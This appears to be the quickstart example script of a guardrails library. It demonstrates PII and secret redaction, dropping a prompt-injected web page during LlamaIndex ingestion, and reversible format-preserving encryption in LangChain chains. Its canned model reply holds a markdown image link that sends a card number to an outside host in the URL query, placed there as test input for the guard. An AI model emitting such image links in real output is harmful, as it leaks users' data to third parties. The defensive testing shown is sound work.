"""The main job, offline: a guarded LangChain chain, a guarded LlamaIndex ingestion, encryption and the way back.

    python examples/quickstart.py
"""

from __future__ import annotations

import sys
import time
from collections import Counter
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

from langchain_core.language_models import GenericFakeChatModel
from langchain_core.messages import AIMessage
from langchain_core.output_parsers import StrOutputParser
from langchain_core.prompts import ChatPromptTemplate
from llama_index.core import Document
from llama_index.core.ingestion import IngestionPipeline
from llama_index.core.node_parser import SentenceSplitter
from rich.console import Console
from rich.panel import Panel
from rich.table import Table
from rich.text import Text

from guardrails_plugin import Engine, Keyring
from guardrails_plugin.detectors.examples import expand
from guardrails_plugin.langchain import Guard
from guardrails_plugin.llama_index import GuardTransform

DATA = Path(__file__).parent / "data"
COLOURS = {"allow": "green", "report": "blue", "transform": "yellow", "block": "red"}
REPLY = (
    "Dear customer, your savings account is on its way. I tried the card 4111 1111 1111 1111 again and it works, and "
    "the bureau now confirms the number 536-90-4399. You can follow the rest on the page for new customers. "
    "![status](https://stats.example.net/p.png?d=4111111111111111) "
    "If anything is unclear, just answer this message and we will call you back."
)

console = Console(width=118)


def load(name: str) -> str:
    """A text from examples/data. No secret stands in the files: ``{alnum:36}`` becomes 36 letters and digits here."""
    return expand((DATA / name).read_text("utf-8"))


class Recorder:
    """An audit sink: the engine tells it what was found and done at every stage, never the text itself."""

    def __init__(self) -> None:
        self.rows: list[tuple[str, Mapping[str, Any]]] = []
        self.names: list[str] = []

    def about(self, *names: str) -> None:
        """What the coming records are about, in order; the last name stays."""
        self.names = list(names)

    def write(self, record: Mapping[str, Any]) -> None:
        """Take a record."""
        name = self.names.pop(0) if len(self.names) > 1 else self.names[0]
        self.rows.append((name, record))

    def table(self) -> Table:
        """Everything that was recorded."""
        table = Table("what", "stage", "found and done", "verdict", title="What was found and done", expand=True)
        table.add_column("ms", justify="right")
        for name, record in self.rows:
            done = Counter(f"{found['type']} {past(found['action'])}" for found in record["findings"])
            found = ", ".join(f"{count} x {what}" if count > 1 else what for what, count in done.items())
            verdict = Text(record["verdict"], style=COLOURS[record["verdict"]])
            table.add_row(name, record["stage"], found or "-", verdict, f"{record['seconds'] * 1000:.1f}")
        return table


def past(action: str) -> str:
    """``replace`` -> ``replaced``."""
    return {"partial_mask": "partly masked"}.get(action, action + ("d" if action.endswith("e") else "ed"))


def guarded_chain(engine: Engine, recorder: Recorder) -> list[tuple[str, bool]]:
    """LangChain: the prompt is guarded before the model sees it, the answer before anybody else does."""
    console.rule("1. LangChain: prompt | Guard | model | Guard")
    prompt = ChatPromptTemplate.from_messages(
        [("system", "You answer the customers of a bank."), ("human", "Answer this ticket:\n\n{ticket}")]
    )
    seen: list[str] = []

    def spied(value: Any) -> Any:
        seen.append(value.messages[-1].content)
        return value

    model = GenericFakeChatModel(messages=iter([AIMessage(REPLY)] * 2))
    chain = (
        prompt
        | Guard("llm_prompt", engine=engine)
        | spied
        | model
        | Guard("response", engine=engine)
        | StrOutputParser()
    )
    ticket = load("support_ticket.txt")

    recorder.about("support_ticket.txt", "answer, invoked")
    invoked = chain.invoke({"ticket": ticket})
    recorder.about("support_ticket.txt", "answer, streamed")
    chunks = [chunk for chunk in chain.stream({"ticket": ticket}) if chunk]

    console.print(Panel(Text(passage(seen[0], "Date of birth", 7)), title="what the model sees (excerpt)"))
    console.print(Panel(Text(invoked), title=f"what the customer gets (streamed: the same, in {len(chunks)} chunks)"))
    return [
        ("the model never sees the SSN or the card", "536-90-4399" not in seen[0] and "4111 1111" not in seen[0]),
        ("neither does the reader of the answer", "536-90-4399" not in invoked and "4111" not in invoked),
        ("the stream says the same as the whole answer", "".join(chunks) == invoked and len(chunks) > 1),
    ]


def guarded_ingestion(engine: Engine, recorder: Recorder) -> list[tuple[str, bool]]:
    """LlamaIndex: the guard stands first, so nothing poisoned or private reaches the index."""
    console.rule("2. LlamaIndex: IngestionPipeline([GuardTransform(), SentenceSplitter()])")
    names = sorted(path.name for path in DATA.iterdir() if path.is_file())
    documents = [Document(text=load(name), metadata={"file_name": name}) for name in names]
    guard = GuardTransform(engine=engine)
    pipeline = IngestionPipeline(transformations=[guard, SentenceSplitter(chunk_size=4096)])

    recorder.about(*names)
    nodes = {node.metadata["file_name"]: node.get_content() for node in pipeline.run(documents=documents)}

    console.print(Panel(Text(passage(nodes["api_log.txt"], "config     AWS", 6)), title="api_log.txt, indexed (excerpt)"))
    console.print(f"dropped: {', '.join(name for name in names if name not in nodes)} {reasons(guard)}\n")
    ticket = nodes["support_ticket.txt"]
    return [
        ("the poisoned page was dropped", "web_page.md" not in nodes and len(nodes) == len(names) - 1),
        ("personal data was replaced", "<US_SSN>" in ticket and "536-90-4399" not in ticket),
        ("secrets were replaced", "ghp_" not in nodes["api_log.txt"]),
        ("the clean document is untouched", nodes["clean.md"].strip() == load("clean.md").strip()),
    ]


def encryption(engine: Engine, recorder: Recorder) -> list[tuple[str, bool]]:
    """Values that keep their format and can be turned back by whoever holds the key."""
    console.rule("3. Format-preserving encryption, and the way back")
    overrides = {"pii": {"credit_card": "encrypt", "us_ssn": "encrypt"}}
    original = "Card 4111 1111 1111 1111 belongs to the customer with SSN 536-90-4399."

    recorder.about("card and SSN")
    result = engine.check(original, stage="prompt", overrides=overrides)
    card, ssn = (replacement.text for replacement in result.replacements)
    answer = f"I have noted the SSN {ssn}; the card {card} was charged."
    restored = engine.unredact(answer, result.fpe_context or "")

    grid = Table.grid(padding=(0, 2))
    for label, text in [
        ("original", original),
        ("encrypted", result.output),
        ("a model's answer", answer),
        ("turned back", restored),
    ]:
        grid.add_row(Text(label, style="dim"), text)
    console.print(Panel(grid))
    return [
        ("nothing of the values is left", "4111 1111" not in result.output and "536-90-4399" not in result.output),
        ("they keep their format", len(result.output) == len(original)),
        ("they come back, in other words too", "SSN 536-90-4399; the card 4111 1111 1111 1111 was" in restored),
    ]


def passage(text: str, start: str, lines: int) -> str:
    """Some lines of a text, from the one that holds ``start``."""
    return "\n".join(text[text.index(start) :].splitlines()[:lines])


def reasons(guard: GuardTransform) -> str:
    """Why documents were dropped."""
    return "; ".join(f"({', '.join(result.reasons)})" for result in guard.dropped)


def warm(engine: Engine, stages: Sequence[str]) -> Engine:
    """Patterns are compiled and models loaded at the first check of a stage."""
    for stage in stages:
        engine.check("Good morning to everybody.", stage=stage)
    return engine


def main() -> int:
    """Run all three and say whether everything is as it should be."""
    began = time.perf_counter()
    recorder = Recorder()
    recorder.about("first check")
    engine = warm(Engine(keyring=None, sinks=[recorder]), ["llm_prompt", "response", "ingestion"])
    with_keys = warm(Engine(keyring=Keyring.generate(), sinks=[recorder]), ["prompt"])
    recorder.rows.clear()
    console.print(f"engines ready after {time.perf_counter() - began:.1f} s\n")

    checks = guarded_chain(engine, recorder) + guarded_ingestion(engine, recorder) + encryption(with_keys, recorder)
    console.print(recorder.table())
    for claim, holds in checks:
        console.print(Text("  ok  " if holds else "FAIL  ", style="green" if holds else "bold red") + claim)
    return 0 if all(holds for _, holds in checks) else 1


if __name__ == "__main__":
    sys.exit(main())
